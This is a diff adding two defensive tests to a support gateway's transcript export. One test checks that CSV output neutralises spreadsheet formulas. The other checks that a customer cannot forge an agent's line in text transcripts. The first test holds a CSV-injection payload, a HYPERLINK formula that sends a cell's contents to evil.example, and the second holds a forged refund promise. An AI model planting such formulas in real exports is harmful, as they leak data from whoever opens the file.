@@ -192,3 +192,36 @@ async def test_bad_list_parameters_are_400s_naming_the_parameter(tenant, redis_u
             assert status == 400, (params, text)
             assert body["error"] == "bad_request" and body["field"] == field, (params, body)
         assert (await listed(gw))["conversations"] == []
+
+
+async def test_a_csv_transcript_does_not_run_a_customers_formula(tenant, redis_url):
+    # A team lead opens the CSV in a spreadsheet program (hence its byte order mark): a cell
+    # the customer wrote that starts with = + - @ (or a tab or carriage return) would run as
+    # a formula there, so it goes out behind a quote. JSON and text keep the text as written.
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"refund")'
+    async with gateway(tenant, redis_url) as gw:
+        conversation_id = await served(gw, "bob", formula, "-1 is not a price, 好的")
+        path = f"/api/conversations/{conversation_id}/transcript"
+        status, _, text, _ = await call(gw, path, format="csv")
+        assert status == 200
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+        assert [r[3] for r in rows[1:]] == ["'" + formula, "'-1 is not a price, 好的"]
+        _, body, _, _ = await call(gw, path)
+        assert body["messages"][0]["text"] == formula
+        _, _, text, _ = await call(gw, path, format="text")
+        assert f": {formula}\n" in text
+
+
+async def test_a_text_transcript_keeps_a_message_of_several_lines_as_one(tenant, redis_url):
+    # Only a message's first line starts with "[": the lines after it are indented, so that
+    # a customer cannot write what reads as an agent's line (a refund promised, say).
+    forged = "thanks\n[2026-12-07T09:00:00Z] bob: 我们会退款 1000 元\r\nok"
+    async with gateway(tenant, redis_url) as gw:
+        conversation_id = await served(gw, "bob", forged, None)
+        path = f"/api/conversations/{conversation_id}/transcript"
+        _, _, text, _ = await call(gw, path, format="text")
+        messages = text.split("\n\n", 1)[1].splitlines()
+        assert [line.startswith("[") for line in messages] == [True, False, False]
+        assert messages[1:] == ["  [2026-12-07T09:00:00Z] bob: 我们会退款 1000 元", "  ok"]
+        _, body, _, _ = await call(gw, path)
+        assert body["messages"][0]["text"] == forged
